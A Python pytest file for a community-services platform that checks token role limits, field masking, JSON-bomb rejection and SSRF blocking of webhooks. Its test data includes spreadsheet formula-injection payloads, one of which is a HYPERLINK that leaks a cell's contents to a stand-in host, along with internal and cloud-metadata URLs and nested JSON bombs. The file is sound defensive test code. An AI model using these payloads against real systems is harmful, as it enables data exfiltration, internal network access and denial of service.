"""Security rules that need no broker: token claims, formula-safe cells, JSON bombs, headers."""

import io
import json
import re
import socket
from datetime import UTC, datetime
from pathlib import Path

import jwt
import pytest
from openpyxl import load_workbook
from werkzeug.test import EnvironBuilder
from werkzeug.wrappers import Request

from gateway.api import BadRequest, read_json
from gateway.auth import AuthError, Principal, TokenVerifier, mask, mint
from minqing import cells, config
from minqing.cli import main
from minqing.errors import InvalidInput
from services.feedback import report
from services.points import reports
from services.routing import targets

SECRET = "unit-test-secret-0123456789abcdef"


def forged(**claims):
    return "Bearer " + jwt.encode({"exp": 9999999999, **claims}, SECRET, algorithm="HS256")


@pytest.mark.parametrize(
    "role", ["resident", "grid_member", "community_admin", "unit_handler", "deputy", "bureau_handler"]
)
def test_only_a_district_admin_may_name_every_community(role):
    with pytest.raises(AuthError, match="only a district_admin"):
        TokenVerifier(SECRET).verify(forged(sub="u", role=role, communities=["maxian", "*"], bureau="housing"))
    with pytest.raises(ValueError, match="only a district_admin"):
        mint(SECRET, "u", role, ["*"])
    admin = TokenVerifier(SECRET).verify(forged(sub="u", role="district_admin", communities=["*"]))
    assert admin.district_wide


def test_minqing_token_refuses_a_wildcard_for_other_roles(capsys, monkeypatch):
    monkeypatch.setenv("MINQING_JWT_SECRET", SECRET)
    assert main(["token", "--role", "grid_member"]) == 2
    assert main(["token", "--role", "grid_member", "--community", "*"]) == 2
    assert "only a district_admin" in capsys.readouterr().err
    assert main(["token", "--role", "district_admin"]) == 0


@pytest.mark.parametrize(
    "claims",
    [
        {"sub": "u" * 121, "role": "resident", "communities": ["maxian"]},
        {"sub": "", "role": "resident", "communities": ["maxian"]},
        {"sub": "u", "role": "resident", "communities": ["m" * 41]},
        {"sub": "u", "role": "resident", "communities": [f"c{n}" for n in range(201)]},
        {"sub": "u", "role": "bureau_handler", "communities": ["maxian"], "bureau": "b" * 41},
        {"sub": "u", "role": "bureau_handler", "communities": ["maxian"], "bureau": ["housing"]},
    ],
)
def test_over_long_claims_are_refused(claims):
    with pytest.raises(AuthError):
        TokenVerifier(SECRET).verify(forged(**claims))


def test_claims_at_the_limits_are_accepted():
    principal = TokenVerifier(SECRET).verify(forged(sub="u" * 120, role="resident", communities=["m" * 40]))
    assert len(principal.sub) == 120


# --- formula injection: every text cell of every export is text -------------------------------------
EVIL = ['=HYPERLINK("http://x.example/?"&A1,"点我")', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def _texts(data: bytes):
    book = load_workbook(io.BytesIO(data))
    return [(c.value, c.data_type) for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]


def _assert_no_formula(data: bytes, *expected: str):
    found = _texts(data)
    assert all(kind != "f" for _, kind in found), [v for v, kind in found if kind == "f"]
    values = " ".join(str(v) for v, _ in found)
    for text in expected:
        assert text.strip() in values


def test_the_monthly_report_writes_a_formula_like_community_name_as_text():
    rate = {"value": 0.5, "numerator": 1, "denominator": 2}
    overall = {"cases": 2, "by_channel": {"hotline": 2}, "by_handling_type": {"immediate": 2}}
    overall |= {key: rate for key, *_ in report.RATES}
    stats = {
        "period": {"name": "2026-11", "from": "2026-11-01T00:00:00+08:00", "to": "2026-12-01T00:00:00+08:00"},
        "overall": overall,
        "groups": [{"group": EVIL[1], "cases": 2} | {key: rate for key, *_ in report.RATES}],
    }
    _assert_no_formula(report.build(EVIL[0], stats), "=HYPERLINK", "=1+1")


def test_the_annual_file_writes_formula_like_names_and_reasons_as_text():
    at = datetime(2026, 5, 1, 9, tzinfo=UTC)
    member = {"name": EVIL[1], "community": "maxian", "branch": EVIL[4], "unit": EVIL[2], "status": "serving"}
    file = {
        "year": 2026,
        "member": member | {"professions": [EVIL[3]], "specialties": [], "id": "m1", "phone": None},
        "opening_balance": 0,
        "closing_balance": 5,
        "earned": 5,
        "totals": {"award": 0, "correction": 5, "redemption": 0, "refund": 0, "expiry": 0},
        "by_item": [{"name": EVIL[5], "count": 1, "quantity": 1.0, "points": 5}],
        "activities": [{"title": EVIL[6], "starts_at": at, "place": EVIL[0], "status": "checked_out", "hours": 2}],
        "redemptions": [{"reward": EVIL[1], "quantity": 1, "points": 1, "status": "reserved", "at": at}],
        "entries": [
            {"at": at, "kind": "correction", "points": 5, "balance_after": 5, "reason": EVIL[0], "rule": None,
             "actor": EVIL[1]}
        ],
    }  # fmt: skip
    _assert_no_formula(reports.xlsx(file, EVIL[0]), "=HYPERLINK", "=1+1", "@SUM(A1)")


@pytest.mark.parametrize("text", EVIL)
def test_csv_fields_that_start_like_a_formula_are_escaped(text):
    line = cells.csv_bytes(["名称"], [[text, 3, None]]).decode("utf-8-sig").splitlines()[1]
    assert line.lstrip('"').startswith("'"), line


def test_every_export_writes_through_the_shared_helper():
    """A new export that fills a workbook or a CSV by hand would bring formula injection back."""
    root = Path(__file__).resolve().parents[2]
    exporters = []
    for path in [*root.glob("services/*/*.py"), *root.glob("gateway/*.py"), *root.glob("minqing/*.py")]:
        source = path.read_text(encoding="utf-8")
        if path.name == "cells.py" or "demo" in path.name or not re.search(r"Workbook\(\)|csv\.writer", source):
            continue
        exporters.append(path.name)
        assert "cells." in source, f"{path} exports without minqing.cells"
        by_hand = re.search(r"\w+\.append\(\[|\.cell\([^)]*value=|\[\"[A-Z]+\d+\"\] =|\.value =", source)
        assert by_hand is None, f"{path} writes a cell by hand: {by_hand.group(0)}"
    assert {"report.py", "reports.py"} <= set(exporters)


# --- masking: a household's code gives its room away ------------------------------------------------
def test_a_household_code_is_masked_with_its_room():
    household = {"code": "maxian-b01-1-0101", "building": "maxian-b01", "unit": "1", "room": "0101"}
    masked = mask(Principal("u", "district_admin", ("*",)), household)
    assert masked["room"] == "***" and masked["code"] == "maxian-b01-1-***" and "0101" not in str(masked)
    visit = {"id": "v1", "household": "maxian-b01-1-0101", "grid": "maxian-g01"}
    assert mask(Principal("u", "deputy", ("maxian",)), visit)["household"] == "maxian-b01-1-***"
    assert mask(Principal("u", "grid_member", ("maxian",)), household) == household  # works them hands-on


# --- JSON bombs -------------------------------------------------------------------------------------
def _request(raw: bytes):
    return Request(EnvironBuilder(method="POST", data=raw, content_type="application/json").get_environ())


@pytest.mark.parametrize(
    "raw",
    [
        b'{"limit": ' + b"9" * 5000 + b"}",
        b'{"limit": -' + b"9" * 31 + b"}",
        b'{"a": ' + b"[" * 50000 + b"]" * 50000 + b"}",
        b'{"a": ' + b"[" * 500 + b"]" * 500 + b"}",
        b'{"a": ' + b'{"b": ' * 30 + b"1" + b"}" * 30 + b"}",
    ],
)
def test_json_bombs_are_400(raw):
    with pytest.raises(BadRequest) as refused:
        read_json(_request(raw), 10_000_000)
    assert refused.value.status == 400


def test_ordinary_bodies_still_parse():
    body = {"rules": [{"category": "elevator", "keywords": ["电梯"], "committed_days": 5}], "n": -12345678901234567890}
    assert read_json(_request(json.dumps(body).encode()), 10_000) == body


def test_the_gateways_metrics_port_is_internal_and_apart_from_the_api(monkeypatch):
    for name in ("MINQING_CONFIG", "MINQING_GATEWAY_METRICS_PORT", "MINQING_METRICS_PORT_BASE", "MINQING_HTTP_PORT"):
        monkeypatch.delenv(name, raising=False)
    gateway = config.ServiceSettings("gateway", http_address="127.0.0.1:8000").nameko_config()
    assert gateway["METRICS_ADDRESS"].endswith(":9100") and gateway["WEB_SERVER_ADDRESS"].endswith(":8000")
    monkeypatch.setenv("MINQING_GATEWAY_METRICS_PORT", "9200")
    assert config.metrics_address("gateway").endswith(":9200")


# --- SSRF: where a bureau's webhook may point ----------------------------------------------------------
def no_dns(*args, **kwargs):
    raise OSError("no DNS in unit tests")


def resolves_to(*addresses):
    return lambda host, port, **kw: [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (a, port)) for a in addresses]


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:9101/metrics",
        "http://localhost:15672/",
        "http://169.254.169.254/latest/meta-data/",
        "http://[::1]:8000/",
        "http://2130706433:8000/",
        "http://0x7f000001/",
        "http://0177.0.0.1/",
        "http://127.1/",
        "http://[::ffff:127.0.0.1]/",
        "http://10.0.0.8/",
        "http://172.16.3.4/",
        "http://192.168.1.1/",
        "http://100.64.0.1/",
        "http://0.0.0.0/",
        "http://240.0.0.1/",
        "http://[fe80::1]/",
        "http://[fc00::1]/",
        "http://rabbitmq.internal/",
        "http://printer.local/",
        "http://user:pw@example.com/",
    ],
)
def test_webhooks_into_the_platforms_own_network_are_refused(url):
    with pytest.raises(InvalidInput) as refused:
        targets.check(url, frozenset(), no_dns)
    assert "webhook_url" in refused.value.errors


def test_a_name_that_resolves_inside_is_refused_and_an_operator_may_allow_a_host():
    inside = resolves_to("93.184.216.34", "10.1.2.3")
    with pytest.raises(InvalidInput, match="10.1.2.3"):
        targets.check("https://hooks.bureau.example/x", frozenset(), inside)
    targets.check("https://hooks.bureau.example/x", frozenset(), resolves_to("93.184.216.34"))
    targets.check("https://hooks.bureau.example/x", frozenset(), no_dns)  # checked again at delivery
    targets.check("http://127.0.0.1:8080/x", targets.allowed_hosts("127.0.0.1, bureau-line.gov"), no_dns)
    targets.check("http://bureau-line.gov/x", targets.allowed_hosts(["bureau-line.gov"]), inside)
    targets.check("https://8.8.8.8/x", frozenset(), no_dns)


def test_the_annual_files_member_phone_is_masked_like_any_other():
    file = {"year": 2026, "member": {"id": "m1", "name": "林志华", "phone": "13900002222"}}
    assert mask(Principal("u", "district_admin", ("*",)), file)["member"]["phone"] == "139****2222"
    assert file["member"]["phone"] == "13900002222"
